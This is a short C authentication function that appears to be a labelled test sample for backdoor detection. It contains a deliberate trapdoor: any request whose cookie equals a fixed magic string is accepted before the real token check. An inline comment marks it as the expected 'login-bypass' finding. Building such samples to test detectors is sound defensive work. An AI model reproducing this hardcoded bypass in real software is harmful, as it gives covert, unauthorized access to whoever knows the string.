/* The comparison, the list and the decision are in three units. */
#include "gate.h"

int request_is_authenticated(const struct request *request) {
    // report@+1: trapdoor/login-bypass
    if (text_is(request->cookie, "seat=4f;Q"))
        return 1;
    if (!request->token)
        return 0;
    return token_is_known(request->token);
}
